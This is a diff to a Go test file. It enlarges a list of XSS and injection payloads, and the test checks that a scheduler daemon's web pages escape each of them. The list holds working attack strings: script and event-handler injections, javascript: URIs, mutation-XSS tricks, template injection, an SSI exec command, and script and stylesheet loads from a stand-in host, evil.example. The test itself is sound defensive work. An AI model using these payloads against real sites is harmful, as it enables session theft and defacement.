@@ -24,7 +24,22 @@ func payloads() []string {
 		`</style><b>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content=0>`,
 		`<a href=//evil.example>x</a>`,
 		"<scr\x00ipt>", "<img\x0conerror=alert(1)>", `&lt;script&gt;`, `&#60;script&#62;`, `%3Cscript%3E`,
-		"\r\nSet-Cookie: x=1", "\x1b]0;title\x07", "\u202egnp.exe"}
+		"\r\nSet-Cookie: x=1", "\x1b]0;title\x07", "\u202egnp.exe",
+		`<ScRiPt>alert(1)</sCrIpT>`, `<script/src=//evil.example/x.js>`, `<script>alert(1)//`, `<<script>alert(1)//<`,
+		`<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)>`, `<svg><a xlink:href=javascript:alert(1)>x</a>`,
+		`<svg><animate onbegin=alert(1) attributeName=x>`, `<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>`,
+		`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
+		`<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`, `<body onload=alert(1)>`,
+		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`,
+		`<input autofocus onfocus=alert(1)>`, `<select><option><img src=x onerror=alert(1)>`,
+		`<form action=javascript:alert(1)><button>x`, `<button formaction=javascript:alert(1)>x`,
+		`<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`,
+		`x" style="background:url(//evil.example)`, `<template><script>alert(1)</script></template>`,
+		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `--><script>alert(1)</script>`,
+		`*/alert(1)/*`, `';alert(1);//`, `"-alert(1)-"`, `\";alert(1);//`, "java\tscript:alert(1)", " javascript:alert(1)",
+		`JaVaScRiPt:alert(1)`, `vbscript:msgbox(1)`, `//evil.example/x`, `http://evil.example/`, `\\evil.example\x`,
+		`{{constructor.constructor('alert(1)')()}}`, `<%= 7*7 %>`, `<!--#exec cmd="id"-->`, `<?xml version="1.0"?>`,
+		`<xmp><script>alert(1)</script>`, `<plaintext>`, "\ufeff<script>alert(1)</script>", "\u00a0\u200b<b>"}
 }
 
 // TestW1PagesEscape puts each payload into every string that the schedd sends, and checks
